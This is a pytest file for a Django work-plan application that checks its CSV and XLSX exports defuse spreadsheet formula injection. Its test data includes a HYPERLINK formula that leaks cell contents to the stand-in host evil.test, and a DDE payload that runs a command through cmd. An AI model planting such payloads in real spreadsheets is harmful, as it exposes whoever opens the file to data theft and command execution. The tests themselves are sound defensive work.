"""M4: text that a spreadsheet would run as a formula is written inert in every CSV
and XLSX export; numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from jwp.spreadsheets import safe_cell
from tests import factories
from workplans.models import PlanStatus

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, DDE, "+1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1", "\n-1", "＝1+1"],
)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Borehole repair", "a=b", "KES 1,000", "", "'quoted"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [Decimal("-2500.50"), -3, -1.5, 0, True, None, date(2026, 1, 2)])
def test_numbers_dates_and_empty_cells_are_written_as_themselves(value):
    assert safe_cell(value) is value


def test_plan_xlsx_has_no_formula_from_an_activity_title(client, county, secretariat, neighbour):
    factories.JointWorkPlanFactory(county=neighbour)  # a neighbour's plan, never exported here
    plan = factories.JointWorkPlanFactory(county=county, status=PlanStatus.CO_CREATION)
    first = factories.JointActivityFactory(county=county, plan=plan, title=HYPERLINK)
    second = factories.JointActivityFactory(county=county, plan=plan, title=DDE)
    factories.BudgetLineFactory(county=county, activity=first, amount=Decimal("1250.50"))
    factories.BudgetLineFactory(county=county, activity=second, amount=Decimal("10"))
    client.force_login(secretariat)
    url = reverse("workplans:plan_export", kwargs={"county_slug": county.slug, "plan_id": plan.pk})
    response = client.get(url)
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + HYPERLINK in texts and "'" + DDE in texts
    assert not [t for t in texts if t.lstrip().startswith(("=", "+", "-", "@"))]
    # The money columns are still numbers a spreadsheet can add up.
    budget = book["Budget"]
    amounts = [c.value for c in budget["E"] if isinstance(c.value, int | float)]
    assert 1260.5 in amounts


def test_contact_csv_export_writes_the_payloads_inert(client, county, secretariat):
    contact = factories.ContactFactory(
        county=county, name=HYPERLINK, position=DDE, phone="+254 700"
    )
    client.force_login(secretariat)
    url = reverse(
        "counties:contact_export_csv", kwargs={"county_slug": county.slug, "contact_id": contact.pk}
    )
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["contact", "1", "name", "'" + HYPERLINK] in rows
    assert ["contact", "1", "position", "'" + DDE] in rows
    assert ["contact", "1", "phone", "'+254 700"] in rows
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
